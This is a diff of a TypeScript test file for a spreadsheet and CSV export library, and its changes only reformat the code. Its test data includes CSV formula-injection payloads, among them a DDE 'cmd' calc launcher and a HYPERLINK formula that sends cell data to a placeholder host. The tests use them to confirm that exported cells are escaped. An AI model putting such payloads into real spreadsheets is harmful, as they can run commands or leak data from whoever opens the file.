@@ -25,9 +25,21 @@ const LONG_LIST = Array.from({ length: 90 }, (_, index) => ({ code: `c${index}`,
 const COLUMNS: SheetColumn[] = [
   column('name', '姓名', { required: true, help: '与证件一致' }),
   column('idNumber', '证件号码', { identifier: true }),
-  column('sex', '性别', { kind: 'choice', options: [{ code: '1', label: '男' }, { code: '2', label: '女' }] }),
+  column('sex', '性别', {
+    kind: 'choice',
+    options: [
+      { code: '1', label: '男' },
+      { code: '2', label: '女' },
+    ],
+  }),
   column('major', '专业', { kind: 'choice', options: LONG_LIST }),
-  column('labels', '标签', { kind: 'choices', options: [{ code: 'a', label: '甲' }, { code: 'b', label: '乙' }] }),
+  column('labels', '标签', {
+    kind: 'choices',
+    options: [
+      { code: 'a', label: '甲' },
+      { code: 'b', label: '乙' },
+    ],
+  }),
   column('birthday', '出生日期', { kind: 'date' }),
   column('graduation', '毕业年月', { kind: 'month' }),
   column('pay', '工资', { kind: 'number' }),
@@ -35,7 +47,18 @@ const COLUMNS: SheetColumn[] = [
   column('married', '已婚', { kind: 'boolean' }),
 ];
 const ROWS = [
-  { name: '=1+1', idNumber: '330106199003074517', sex: '1', major: 'c42', labels: ['a', 'b'], birthday: '1990-03-07', graduation: '2012-07', pay: -12.5, count: 3, married: true },
+  {
+    name: '=1+1',
+    idNumber: '330106199003074517',
+    sex: '1',
+    major: 'c42',
+    labels: ['a', 'b'],
+    birthday: '1990-03-07',
+    graduation: '2012-07',
+    pay: -12.5,
+    count: 3,
+    married: true,
+  },
   { name: '<&>"\' _x0041_\n第二行 𠮷', idNumber: '+8613800000000', birthday: '2024-02-29', married: false },
   { name: '@SUM(A1)', pay: 1234567.89 },
 ];
@@ -94,7 +117,11 @@ describe('templates, exports and refused rows', () => {
     const path = join(folder, 'export.xlsx');
     await writeExport(path, [{ name: '名单', columns: COLUMNS, rows: ROWS }], { exportedBy: '王芳', exportedAt: '2026/11/20 10:30', filter: '部门：研发' });
     const note = await readTable(path, 'a.xlsx', [column('item', '项目'), column('text', '内容')], { sheetName: '导出说明' });
-    expect(note.rows.map(({ values }) => [values['item'], values['text']])).toEqual([['导出人', '王芳'], ['导出时间', '2026/11/20 10:30'], ['筛选条件', '部门：研发']]);
+    expect(note.rows.map(({ values }) => [values['item'], values['text']])).toEqual([
+      ['导出人', '王芳'],
+      ['导出时间', '2026/11/20 10:30'],
+      ['筛选条件', '部门：研发'],
+    ]);
   });
 
   it('gives refused rows back as typed, red, with reasons, and finds the same errors again', async () => {
@@ -121,12 +148,15 @@ describe('writeCsv', () => {
     expect(rows.map(({ values }) => values)).toEqual(ROWS);
   });
 
-  it.each(['=1+1', '@SUM(A1:A2)', '=HYPERLINK("http://example.invalid/?x="&A1,"点我")', '\t=1+1', '\r=1+1', '＝1＋1', "=cmd|' /C calc'!A0", '-1+cmd', '+A1'])('guards %j and gives it back when read', (text) => {
-    const cell = csvCell(text);
-    expect(cell.replace(/^"/, '')).toMatch(/^'/);
-    const [row] = streamCsv(`${cell},x\r\n`, ',');
-    expect(row?.cells[0]).toBe(text);
-  });
+  it.each(['=1+1', '@SUM(A1:A2)', '=HYPERLINK("http://example.invalid/?x="&A1,"点我")', '\t=1+1', '\r=1+1', '＝1＋1', "=cmd|' /C calc'!A0", '-1+cmd', '+A1'])(
+    'guards %j and gives it back when read',
+    (text) => {
+      const cell = csvCell(text);
+      expect(cell.replace(/^"/, '')).toMatch(/^'/);
+      const [row] = streamCsv(`${cell},x\r\n`, ',');
+      expect(row?.cells[0]).toBe(text);
+    },
+  );
 
   it.each(['+86 13800000000', '-5', '-12.50', '+1 (415) 555-0100', '张三', '2026/11/17'])('leaves %j as it is', (text) => {
     expect(csvCell(text)).toBe(text);
